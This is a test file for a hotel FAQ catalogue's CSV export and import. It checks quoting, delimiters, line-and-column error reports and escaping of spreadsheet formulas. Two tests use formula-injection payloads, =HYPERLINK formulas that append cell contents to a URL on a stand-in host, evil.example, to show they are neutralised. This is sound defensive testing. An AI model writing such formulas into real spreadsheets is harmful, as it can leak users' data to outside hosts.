import { describe, expect, it } from "vitest";
import { parseCsv, serializeCsv } from "../../../src/catalogue/csv";
import type { ContentRecord } from "../../../src/catalogue/records";

/** CSV content files: one FAQ a row, problems by the line a row starts on and its column. */

const RECORD: ContentRecord = {
  id: "HO-A-1",
  kind: "property",
  name: "A",
  brandId: "HO-A",
  propertyId: null,
  faqs: [
    { category: "Parking", question: 'Is there "free" parking, too?', answer: "Yes.\nIn the garage." },
    { category: "Pets", question: "Are dogs welcome?", answer: "Yes." },
  ],
  translations: [{ language: "pt", faqs: [{ source: "Are dogs welcome?", question: "Aceitam cães?", answer: "Sim." }] }],
};

describe("CSV content files", () => {
  it("writes one FAQ a row and reads it back, a quoted line break keeping the next row's line right", () => {
    const csv = serializeCsv([RECORD]);
    // A UTF-8 byte order mark first, so Excel reads the file as UTF-8.
    expect(csv.split("\n")[0]).toBe("\uFEFFentity,position,category,question,answer,language,source");
    const { lists, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(lists).toEqual([
      {
        entityId: "HO-A-1",
        line: 2,
        faqs: [
          { line: 2, ...RECORD.faqs[0] },
          { line: 4, ...RECORD.faqs[1] },
        ],
        translations: [{ line: 5, language: "pt", source: "Are dogs welcome?", question: "Aceitam cães?", answer: "Sim." }],
      },
    ]);
  });

  it("reads cells separated as the header is: Excel's ';', a tab, or a comma, whatever the cells hold", () => {
    const comma = serializeCsv([RECORD]);
    for (const delimiter of [";", "\t"]) {
      const rows = [
        ["entity", "position", "category", "question", "answer", "language", "source"],
        ["HO-A-1", "1", "Parking", "Is there parking, too?", "Yes; €18, 24 h.", "", ""],
        ["HO-A-1", "1", "", "Há estacionamento?", "Sim; 18 €.", "pt", "Is there parking, too?"],
      ];
      const csv = rows.map((row) => row.map((cell) => (cell.includes(delimiter) ? `"${cell}"` : cell)).join(delimiter)).join("\r\n");
      const { lists, errors } = parseCsv(csv);
      expect(errors, delimiter).toEqual([]);
      expect(lists[0]!.faqs).toEqual([{ line: 2, category: "Parking", question: "Is there parking, too?", answer: "Yes; €18, 24 h." }]);
      expect(lists[0]!.translations[0]).toMatchObject({ line: 3, language: "pt", answer: "Sim; 18 €." });
    }
    expect(parseCsv(comma).errors).toEqual([]);
  });

  it("orders an entity's FAQs by position, and reports every problem by line and column", () => {
    const { lists, errors } = parseCsv(
      [
        "entity,position,category,question,answer,language,source",
        "HO-A-1,2,Pets,B?,b,,",
        "HO-A-1,1,Parking,A?,a,,",
        "HO-A-1,1,Spa,C?,c,,",
        ",,Spa,D?,d,,",
        "HO-A-1,,,E?,e,pt,",
        "HO-A-1,zero,Spa,F?,f,,",
        "HO-A-1,,Spa,G?,g,,Whatever",
      ].join("\n"),
    );
    expect(lists[0]!.faqs.map((f) => f.question)).toEqual(["A?", "B?", "C?", "F?", "G?"]);
    expect(errors.map((e) => `${e.line}:${e.field}`)).toEqual(["4:position", "5:entity", "6:source", "7:position", "8:language"]);
    for (const error of errors) expect(error.message).not.toMatch(/undefined|Invalid|expected/);
  });

  it("names missing and unknown columns on line 1", () => {
    const { errors } = parseCsv("entity,question,colour\nHO-A-1,Q?,red\n");
    expect(errors.map((e) => `${e.line}:${e.field}`)).toEqual(["1:category", "1:answer", "1:colour"]);
  });

  it("writes a cell a spreadsheet would run as a formula after a ', and reads it back as written", () => {
    const risky: ContentRecord = {
      ...RECORD,
      faqs: [
        { category: "Policies", question: "Is there a fee?", answer: '=HYPERLINK("https://evil.example/?"&A2,"Details")' },
        { category: "Policies", question: "+ or - a day?", answer: "@once, then -10% off" },
      ],
      translations: [],
    };
    const csv = serializeCsv([risky]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""Details"")"`);
    expect(csv).toContain("'+ or - a day?");
    expect(csv).toContain("'@once, then -10% off");
    const { lists, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(lists[0]!.faqs.map(({ question, answer }) => ({ question, answer }))).toEqual(
      risky.faqs.map(({ question, answer }) => ({ question, answer })),
    );
  });

  it("escapes a formula that holds a line break in every column, quotes U+2028 and U+2029, and reads each cell back unchanged", () => {
    const breaks = ["\n", "\r\n", "\u2028", "\u2029"];
    const formula = (mark: string) => `=HYPERLINK("https://evil.example/?d="&D2,"x${mark}y")`;
    const cells = breaks.flatMap((mark) => [formula(mark), `plain${mark}text`, `@SUM(1${mark}2)`]);
    const risky: ContentRecord = {
      ...RECORD,
      faqs: cells.map((cell, n) => ({ category: `${cell} ${n}`, question: `${cell} ?${n}`, answer: cell })),
      translations: [
        { language: "pt", faqs: cells.map((cell, n) => ({ source: `${cell} ?${n}`, question: `${cell} pt${n}`, answer: cell })) },
      ],
    };
    const csv = serializeCsv([risky]);
    const rows = parseCsv(csv);
    expect(rows.errors).toEqual([]);
    const [list] = rows.lists;
    expect(list!.faqs.map(({ category, question, answer }) => ({ category, question, answer }))).toEqual(risky.faqs);
    expect(list!.translations.map(({ source, question, answer }) => ({ source, question, answer }))).toEqual(risky.translations![0]!.faqs);
    // No cell starts a formula in the file as a spreadsheet reads it: each is quoted, and its first character is a '.
    for (const cell of cells.filter((c) => /^[=@]/.test(c))) {
      const written = `"'${cell.replaceAll('"', '""')}`;
      expect(csv).toContain(written);
      expect(csv).not.toMatch(new RegExp(`(^|,)"?${cell[0] === "=" ? "=" : "@"}`, "m"));
    }
    for (const mark of ["\u2028", "\u2029"]) expect(csv).toContain(`"plain${mark}text"`);
  });
});
